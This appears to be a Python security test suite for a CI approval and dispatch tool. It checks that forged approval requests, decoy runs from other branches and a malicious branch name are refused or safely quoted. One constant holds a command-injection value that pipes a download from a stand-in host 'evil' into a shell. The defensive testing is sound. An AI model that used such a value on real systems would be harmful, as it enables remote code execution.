"""Attack: what an approver is shown is not what their signature binds, or the approver starts somebody else's workflow."""

from __future__ import annotations

import copy
import shlex
from collections.abc import Callable
from typing import Any

import pytest

from hyops_ci.approvals.request import answer
from hyops_ci.contracts.approval import Person
from hyops_ci.contracts.run import State
from hyops_ci.errors import Refusal
from hyops_ci.github.dispatch import Started
from hyops_ci.operations.approve import may_resume, pending_run, push_answer, resume
from hyops_ci.operations.dispatch.start import StartRequest, dispatch
from hyops_ci.operations.rehearse.scenarios import example_decision
from hyops_ci.report.approval_page import approval_lines
from hyops_ci.stages.context import SystemClock
from tests.security.incident import CALLER, WORKFLOW, Incident, assert_recovered, assert_refused
from tests.support.github import faults
from tests.support.github.runs import Run

EVIL = "x;curl${IFS}evil|sh;"
RESUMABLE = f"""\
on: {{workflow_dispatch: {{inputs: {{resume: {{type: string}}}}}}}}
jobs: {{dr: {{uses: {CALLER}, with: {{resume: "${{{{ inputs.resume }}}}"}}}}}}
"""
START = "POST /repos/{owner}/{repo}/actions/workflows/{workflow_id}/dispatches"


def titled(run: Run) -> None:
    """As the template names a run that resumes another."""
    run.title = f"resume {run.inputs['resume']} by jonas, "


@pytest.fixture
def waiting(incident: Incident) -> Incident:
    """maria's run waits for a signature of jonas, in a workflow that can be resumed."""
    incident.repository.commit({WORKFLOW: RESUMABLE})
    incident.repository.workflows[0].on_start = titled
    incident.start(actor="maria")
    incident.reach_gate()
    incident.hand_over()
    incident.run.finish("success")
    return incident


def later(incident: Incident, run: Run) -> list[Run]:
    return [each for each in incident.repository.runs.values() if each.id > run.id]


def forged(incident: Incident, lie: Callable[[dict[str, Any]], object]) -> bytes:
    """The handover of the true run, and a request in it that was edited."""
    known: dict[str, Any] = incident.folder.read_json("request.json")
    told = copy.deepcopy(known)
    lie(told)
    incident.folder.write_json("request.json", told)
    packed = incident.folder.root.parent / "forged.tar"
    incident.folder.pack(packed)
    incident.folder.write_json("request.json", known)
    return packed.read_bytes()


LIES: dict[str, Callable[[dict[str, Any]], object]] = {
    "reason": lambda told: told.update(rationale="drill, nothing real"),
    "decision": lambda told: told.update(decision=told.get("decision", {}) | {"rationale": "drill, nothing real"}),
    "deviations": lambda told: told["check"].update(deviations=[]),
    "unknown": lambda told: told["check"].update(unknown={}),
    "states": lambda told: told["check"].update(states=[{"ref": "org/gcp/wan-hub-network", "status": "ok"}]),
    "runner": lambda told: told["check"].update(runner={"name": "gcp-ops-runner-99", "trusted": True}),
    "version": lambda told: told["check"].update(hyops_version="0.1.4"),
    "secrets": lambda told: told["check"].update(secret_names=["A", "B", "C", "D", "E", "F", "G"]),
    "why a step is skipped": lambda told: told["check"]["steps"][0].update(why="state ok, run 7 of 2026-11-22T00:00:00Z"),
}


@pytest.mark.parametrize("lie", LIES)
def test_a_request_that_shows_what_the_digests_do_not_cover(lie: str, waiting: Incident) -> None:
    """Whoever took the job of the check uploads a request with the digests of the true one, and another text around them."""
    run = waiting.start(actor="maria")
    waiting.again()
    run.add_artifact(f"dr-check-{run.id}-1", {"handover.tar": forged(waiting, LIES[lie])})
    with pytest.raises(Refusal) as refused:
        pending_run(waiting.client(), run.id)
    assert refused.value.gate == "approval.request"


def test_who_asked_and_when_are_githubs_word(waiting: Incident) -> None:
    run = waiting.start(actor="maria")
    lie = {"requesters": [{"login": "priya", "id": 1003}], "requested_at": "2099-01-01T00:00:00Z"}
    waiting.again()
    run.add_artifact(f"dr-check-{run.id}-1", {"handover.tar": forged(waiting, lambda told: told.update(lie))})
    request = pending_run(waiting.client(), run.id).request
    assert [person.login for person in request.requesters] == ["maria"]
    assert request.requested_at == run.created_at
    assert approval_lines(request)[1].startswith("Asked      maria ")


@pytest.mark.parametrize("options", [{"branch": "evil"}, {"event": "push"}, {"event": "pull_request"}, {"sha": "0" * 40}])
def test_a_run_that_is_not_of_the_reviewed_workflow_is_not_shown(options: dict[str, str], waiting: Incident) -> None:
    """Anybody who can push a branch can make a run that waits, with any artifact: nothing of it is read, nothing is started."""
    waiting.repository.commit({WORKFLOW: RESUMABLE}, "evil")
    run = waiting.repository.add_run(WORKFLOW, actor="mallory", **options)
    run.add_artifact(f"dr-check-{run.id}-1", {"handover.tar": waiting.hand_over()})
    with pytest.raises(Refusal) as refused:
        pending_run(waiting.client(), run.id)
    assert (refused.value.gate, int(refused.value.exit_code)) == ("run.resume", 6)
    assert later(waiting, run) == []


@pytest.mark.parametrize("options", [{"branch": "evil"}, {"event": "push"}, {"sha": "0" * 40}])
def test_a_run_with_the_title_of_the_one_that_goes_on(options: dict[str, str], waiting: Incident) -> None:
    waiting.repository.commit({WORKFLOW: RESUMABLE}, "evil")
    first = waiting.run
    decoy = waiting.repository.add_run(WORKFLOW, actor="mallory", title=f"resume {first.id} by jonas, ", **options)
    decoy.finish("success")
    assert approved(waiting, first).run_id not in (None, decoy.id)
    (started,) = later(waiting, decoy)
    assert (started.branch, started.inputs) == ("main", {"resume": str(first.id)})


def test_the_title_of_another_branch_while_the_answer_to_the_start_is_lost(waiting: Incident) -> None:
    """Then the run is looked for by its mark, and a decoy must not be taken for it."""
    first = waiting.run
    waiting.repository.commit({WORKFLOW: RESUMABLE}, "evil")
    waiting.repository.workflows[0].on_start = lambda run: decoyed(waiting, run)
    waiting.fake.inject(faults.lost(), START)
    started = approved(waiting, first)
    assert started.run_id is not None
    assert waiting.repository.runs[started.run_id].branch == "main"


def decoyed(incident: Incident, run: Run) -> None:
    titled(run)
    incident.repository.add_run(WORKFLOW, actor="mallory", title=run.title, branch="evil")


def approved(incident: Incident, run: Run) -> Started:
    """jonas approves the run that waits, as the command does it."""
    client = incident.client()
    asked = pending_run(client, run.id)
    into, now = may_resume(client, asked), incident.site.clock.now()
    said = answer(asked.request, "approve", Person(login="jonas"), incident.keys["jonas"], now=now)
    assert push_answer(asked, said, incident.ledger(), now).enough
    return resume(client, asked, into, SystemClock())


def test_an_approval_that_was_given_without_knowing_who_asked(incident: Incident) -> None:
    incident.reach_gate()
    unnamed = incident.request.model_copy(update={"requesters": (Person(login="priya", id=1003),)})
    yes = answer(unnamed, "approve", Person(login="jonas"), incident.keys["jonas"], now=incident.site.clock.now())
    assert_refused(incident, incident.execute(yes), "approval.subject", 6, "answered a request of priya", "maria asked, too")


def test_what_was_shown_is_what_goes_on(waiting: Incident) -> None:
    """The twin of them all: shown, signed, resumed by the one run of the default branch, and recovered."""
    first = waiting.run
    shown = approval_lines(pending_run(waiting.client(), first.id).request)
    assert any(line.startswith("Asked      maria ") and "INC-4242" in line for line in shown)
    started = approved(waiting, first)
    (run,) = later(waiting, first)
    assert (started.run_id, run.branch, run.sha) == (run.id, "main", first.sha)
    waiting.start(actor="jonas")
    assert waiting.plan(resume=str(first.id)).state is State.PLANNED
    assert waiting.check().state is State.CHECKED
    assert_recovered(waiting, waiting.execute())


def test_a_name_that_would_be_a_command_where_it_is_pasted(waiting: Incident) -> None:
    """A branch may be called like a command: what is printed to be pasted names it, and runs nothing of it."""
    large = example_decision("failover", waiting.site.clock, 7) + b" " * 66_000
    with pytest.raises(Refusal) as refused:
        dispatch(StartRequest(ref=EVIL, decision=large), waiting.client(), SystemClock(), print)
    assert refused.value.gate == "dispatch.size"
    assert EVIL in shlex.split(refused.value.fix)
    assert "evil" not in refused.value.fix.replace(shlex.quote(EVIL), "")
